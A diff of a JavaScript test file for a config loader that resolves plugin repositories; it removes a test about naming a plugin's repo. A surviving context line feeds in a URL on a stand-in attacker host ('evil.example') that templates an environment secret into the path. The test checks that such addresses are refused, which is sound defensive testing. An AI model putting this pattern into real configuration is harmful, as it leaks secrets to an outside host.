@@ -255,15 +255,6 @@ test('null, empty maps and repeats of a local address in a fetched document chan
   }
 })
 
-test('a fetched check may repeat what a local document says about its plugin, and name the only repo', async (t) => {
-  const pinned = `${TWO_REPOS}  plugins: {c: {repo: acme, version: ^1}}\n`
-  const { services } = await read(t, pinned, 'services: {web: {health: [{tool: acme/c@^1}]}}\n')
-  assert.deepEqual(services[0]?.checks.health[0]?.request, { plugin: 'c', repo: 'acme', range: '^1' })
-  const one = 'operator: {repos: {acme: {url: "https://a.example/repos/acme.yaml", trust: unsigned}}}\n'
-  const only = await read(t, one, 'services: {web: {health: [{tool: acme/c@^2}]}}\n')
-  assert.equal(only.services[0]?.checks.health[0]?.request.repo, 'acme')
-})
-
 test('no address holds an environment variable, not even in a local config and by way of a value', async (t) => {
   const directory = await writeConfigFiles(t, {
     'direct.yaml': 'operator: {repos: {a: {url: "https://evil.example/{{.env.SECRET}}/a.yaml", trust: unsigned}}}\n',
